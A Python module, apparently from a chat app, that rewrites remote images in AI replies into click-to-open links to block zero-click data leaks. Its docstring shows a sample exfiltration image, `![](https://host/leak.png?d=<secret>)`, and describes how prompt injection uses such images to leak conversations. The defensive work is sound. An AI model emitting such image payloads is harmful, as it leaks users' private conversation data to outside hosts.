"""Remote images in a reply become links, so showing a reply never fetches anything.

A reply that holds `![](https://host/leak.png?d=<secret>)` or `<img src=…>` is fetched by the
browser the moment it is rendered: with prompt injection that is a zero-click leak of the
conversation. `safe_images` rewrites every image whose address is not a `data:` URI into a
link, "image from host — show", that opens the image only when clicked. The page's
Content-Security-Policy (`img-src 'self' data: blob:`, set in app.py) blocks such fetches as
well; this rewrite is the half that keeps the reply readable and covers API clients.

The rule is deliberately strict: outside code, every `![` is either an image whose address
was read and found to be a `data:` URI, rewritten to a link, or escaped so no markdown
renderer can read it as an image; every HTML tag that carries an address attribute (src,
srcset, poster, style's url(), …) other than a link's href is replaced by a link. Plain
functions over strings, no gradio.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Mapping
from urllib.parse import quote, urlsplit

SHOW = "show"
MAX_SCAN = 4000
MAX_NESTING = 32
"""How far past `![` an image's alt text and address are looked for, and how deeply brackets
or parentheses may nest in them (CommonMark's own limit for parentheses is 32); an image not
read within them is escaped, never shown, so a reply full of `![` costs linear time."""

# Fenced code blocks (``` or ~~~, to their closing fence or the end) and inline code spans:
# markdown shows them as text, so they are left exactly as written.
_CODE = re.compile(
    r"(?ms)^[ \t]{0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]{0,3}(?P=fence)[ \t]*$|\Z)"
    r"|(?P<ticks>`+)(?!`).+?(?<!`)(?P=ticks)(?!`)"
)
# An HTML start tag, quoted values read as a whole (so a ">" inside quotes does not end it);
# an unterminated tag runs to the end of the text.
_TAG = re.compile(r"<(?P<name>[A-Za-z][A-Za-z0-9:-]*)(?P<attrs>(?:\"[^\"]*\"|'[^']*'|[^'\">])*)(?:>|\Z)")
_ATTR = re.compile(r"([^\s\"'>/=]+)(?:\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s\"'>]+))?")
_URL_ATTRS = frozenset(
    {"src", "srcset", "lowsrc", "dynsrc", "poster", "background", "data", "href", "xlink:href", "imagesrcset"}
)
_CSS_URL = re.compile(r"(?i)(?:url|image-set|image)\(\s*['\"]?([^'\")\s]+)")
# A link reference definition: [label]: <url> or url, optionally a title.
_DEFINITION = re.compile(r"(?m)^[ \t]{0,3}\[((?:[^\[\]\\]|\\.){1,999})\]:[ \t]*\n?[ \t]*(<[^>\n]*>|\S+)")


def _is_data(url: str) -> bool:
    return url.strip().lower().startswith("data:")


def _label(url: str) -> str:
    """The link text: "image from host — show", the host taken from the address."""
    try:
        parts = urlsplit(url.strip())
        host = parts.hostname or ""
        port = parts.port
    except ValueError:
        host, port = "", None
    where = f"{host}:{port}" if host and port else host or "an unknown address"
    where = re.sub(r"([\\\[\]*_`<>])", r"\\\1", where)
    return f"image from {where} — {SHOW}"


def _link(url: str) -> str:
    """A markdown link to an http(s) image, or plain text for any other scheme (never a
    javascript: or file: link)."""
    url = html.unescape(url.strip())
    scheme = url.split(":", 1)[0].lower() if ":" in url else ""
    if scheme not in ("http", "https"):
        return f"({_label(url).removesuffix(' — ' + SHOW)}, not shown)"
    safe = quote(url, safe="/:?#[]@!$&'()*+,;=%~-._")
    return f"[{_label(url)}](<{safe}>)"


def _normalize_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _definitions(text: str) -> dict[str, str]:
    found: dict[str, str] = {}
    for match in _DEFINITION.finditer(text):
        url = match.group(2)
        url = url[1:-1] if url.startswith("<") and url.endswith(">") else url
        found.setdefault(_normalize_label(match.group(1)), url)
    return found


def _closing_bracket(text: str, start: int) -> int:
    """Index of the `]` that closes the `[` at `start`, nested brackets and escapes allowed; -1 if none."""
    stop = min(len(text), start + MAX_SCAN)
    close = _unbalanced_close(text, start + 1, stop, at_space=False, pair="[]", nesting=MAX_NESTING - 1)
    return close if close is not None and close < stop else -1


def _inline_destination(text: str, start: int) -> tuple[str, int] | None:
    """Read `(dest "title")` at `start`; the destination and the index after `)`, or None."""
    stop = min(len(text), start + MAX_SCAN)
    i = start + 1
    while i < stop and text[i] in " \t\n":
        i += 1
    if i < stop and text[i] == "<":
        end = text.find(">", i, stop)
        if end < 0:
            return None
        dest, i = text[i + 1 : end], end + 1
    else:
        space = _unbalanced_close(text, i, stop, at_space=True)
        if space is None:
            return None
        dest, i = text[i:space], space
    close = _unbalanced_close(text, i, stop, at_space=False)  # an optional title, then ")"
    if close is None or close >= stop or text[close] != ")":
        return None
    return dest, close + 1


def _unbalanced_close(
    text: str, i: int, stop: int, *, at_space: bool, pair: str = "()", nesting: int = MAX_NESTING
) -> int | None:
    """The index of the first ")" from `i` that closes no "(" of its own (backslash escapes
    skipped), or with `at_space` of the first whitespace before it; `stop` or beyond when
    neither comes, None when they nest deeper than `nesting`. `pair` is the opening and the
    closing character: brackets are scanned the same way."""
    opener, closer = pair[0], pair[1]
    depth = 0
    while i < stop and not (at_space and text[i].isspace()):
        ch = text[i]
        if ch == "\\":
            i += 2
            continue
        if ch == opener:
            depth += 1
            if depth > nesting:
                return None
        elif ch == closer:
            if depth == 0:
                return i
            depth -= 1
        i += 1
    return i


def _markdown_images(text: str, definitions: Mapping[str, str]) -> str:
    out: list[str] = []
    i = 0
    while (bang := text.find("![", i)) >= 0:
        if bang > 0 and text[bang - 1] == "\\" and not text[:bang].endswith("\\\\"):
            out.append(text[i : bang + 2])  # an escaped "!": not an image
            i = bang + 2
            continue
        out.append(text[i:bang])
        close = _closing_bracket(text, bang + 1)
        if close < 0:
            out.append("!\\[")
            i = bang + 2
            continue
        alt, after = text[bang + 2 : close], close + 1
        url: str | None = None
        end = after
        if after < len(text) and text[after] == "(":
            read = _inline_destination(text, after)
            if read is not None:
                url, end = read
        if url is None and after < len(text) and text[after] == "[":
            ref_close = _closing_bracket(text, after)
            if ref_close > 0:
                label = text[after + 1 : ref_close] or alt
                url, end = definitions.get(_normalize_label(label)), ref_close + 1
        if url is None:
            url, end = definitions.get(_normalize_label(alt)), after
        if url is not None and _is_data(url):
            out.append(text[bang:end])  # an inline data: image: shown
        elif url is not None:
            if out and out[-1].endswith("!") and not out[-1].endswith("\\!"):
                out[-1] = out[-1][:-1] + "\\!"  # "!" before the link would make it an image again
            out.append(_link(url))
        else:
            out.append("!\\[")  # not an image we could read: make sure no renderer sees one
            end = bang + 2
        i = end
    out.append(text[i:])
    return "".join(out)


def _tag_urls(attrs: str) -> list[str]:
    urls: list[str] = []
    for name, raw in _ATTR.findall(attrs):
        value = html.unescape(raw[1:-1] if raw[:1] in "\"'" and raw[-1:] == raw[:1] and len(raw) > 1 else raw)
        name = name.lower()
        if name in ("srcset", "imagesrcset"):
            urls += [c.split()[0] for c in value.split(",") if c.strip()]
        elif name in _URL_ATTRS:
            urls.append(value)
        elif name == "style":
            urls += _CSS_URL.findall(value)
    return urls


def _html_images(text: str) -> str:
    def replace(match: re.Match[str]) -> str:
        name = match.group("name").lower()
        if name == "a":
            return match.group()  # a link's href is fetched only on a click
        remote = [u for u in _tag_urls(match.group("attrs")) if u.strip() and not _is_data(u)]
        if not remote:
            return match.group()
        return _link(remote[0])

    return _TAG.sub(replace, text)


def _outside_code(text: str, rewrite: Callable[[str], str]) -> str:
    out, last = [], 0
    for match in _CODE.finditer(text):
        out.append(rewrite(text[last : match.start()]))
        out.append(match.group())
        last = match.end()
    out.append(rewrite(text[last:]))
    return "".join(out)


def safe_images(text: str) -> str:
    """`text` with every image that is not a `data:` URI turned into a click-to-open link.

    Markdown images (inline, reference-style, nested brackets in the alt text) and HTML
    tags (`<img>`, `<IMG SRC=…>` without quotes, `srcset`, `<source>`, `style="…url()"`)
    are covered; code spans and fenced code blocks are left as written.
    """
    if "!" not in text and "<" not in text:
        return text
    definitions = _definitions(text)
    return _outside_code(text, lambda part: _markdown_images(_html_images(part), definitions))
